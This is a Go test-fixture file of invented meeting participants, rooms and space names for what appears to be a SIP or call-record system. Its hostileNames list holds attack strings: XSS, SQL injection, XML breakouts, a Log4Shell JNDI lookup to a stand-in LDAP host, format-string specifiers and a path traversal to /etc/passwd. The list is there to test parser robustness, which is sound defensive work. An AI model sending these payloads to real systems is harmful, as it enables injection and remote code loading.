package meeting

// All names are invented.
var (
	people = []string{
		"Maren Holt", "Jonas Brandt", "Ana Sørensen", "Dr. Łukasz Wilk", "Chloë O'Neill", "田中 さくら",
		"Zoë & Max", "Olga Петрова", "Søren \"SK\" Kjær", "Inés <Reception>", "José Núñez", "Amal الحسن",
		"Ruth Adler", "Tom Fenn", "Mira Patel", "Henk de Wit", "Lena Ström", "Iván Ríos", "", "guest",
		"Nia Owusu", "Björn Ax", "김하늘", "Eve Marsh 🙂", "Paul Grün", "Kate Lowell",
	}
	rooms = []string{
		"Boardroom", "Ward 4 cart", "Court 2", "Salle Étoile", "Lecture hall A&B", "Theatre <3>", "Huddle 12",
		"Raum Übersee", "Reception", "Training 1",
	}
	spaceNames = []string{
		"Weekly planning", "Tumour board", "R&D stand-up", "Hearing <closed>", "Café équipe", "Board",
		"Süd/West review", "Night handover", "Überblick \"Q3\"", "営業会議", "Town hall", "Design critique",
		"Budget", "Incident review", "Choir practice", "Regional magistrates", "Teaching round", "Suppliers",
	}
	tenants = []string{
		"0e3b6f0a-6a52-4f0e-9f64-3f7a54c2d101", "7a1d2c3e-91b7-4c55-8d2f-0c9be0a4e202",
	}
	// hostileNames are display names of SIP scanners. Most attack parsers, or programs that use the names.
	// The first one is also the user part of the scanners' addresses.
	hostileNames = []string{
		"100", "<script>alert(1)</script>", "' OR 1=1 --", "]]>", "</displayName></callLeg>", "&amp;&lt;&bogus;",
		"${jndi:ldap://192.0.2.66/a}", "sipvicious", "%s%n%x", "\u202egnp.exe", "..\\..\\..\\etc\\passwd", "🛸🛸🛸",
	}
	cdrTags = []string{"", "", "", "", "cost-centre 4711", "booked", "Abt. Süd & West"}
)
